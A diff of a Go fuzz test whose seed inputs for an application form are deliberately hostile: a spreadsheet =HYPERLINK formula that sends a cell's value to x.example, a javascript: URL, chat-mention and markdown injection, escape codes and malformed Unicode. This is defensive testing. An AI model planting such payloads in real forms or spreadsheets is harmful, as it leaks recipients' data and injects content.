@@ -74,7 +74,7 @@ func FuzzApplication(f *testing.F) {
 	f.Add("\u200b Åbo\u00ad Bryggeri Ab \x1b[31m", "FI01120389", " Bo ", "bo@åbo.fi", "", "unsure", "Line\r\nline\ttab\x00", "market", "", "", "", "sv", "no", "yes")
 	f.Add("=HYPERLINK(\"http://x.example/?d=\"&B2,\"Open\")", "1572860-0", "@channel", "x@y.fi", "javascript:alert(1)", "sensors",
 		"<@U123> [link](https://x.example) ![i](https://x.example/i.png)", "prototype", "", "", "", "en", "maybe", "yes")
-	f.Add(strings.Repeat("ä", call.MaxCompany+1), "1234567-1", "\xff\xfe", "a@b", "https://" + strings.Repeat("x", call.MaxURL), "health",
+	f.Add(strings.Repeat("ä", call.MaxCompany+1), "1234567-1", "\xff\xfe", "a@b", "https://"+strings.Repeat("x", call.MaxURL), "health",
 		strings.Repeat("x ", call.MaxSummary), "idea", "", "", "", "fi", "yes", "no")
 	f.Add(" \u202e\u2063 ", "  ", "\t", "", "", "", "", "", "", "", "", "", "", "")
 
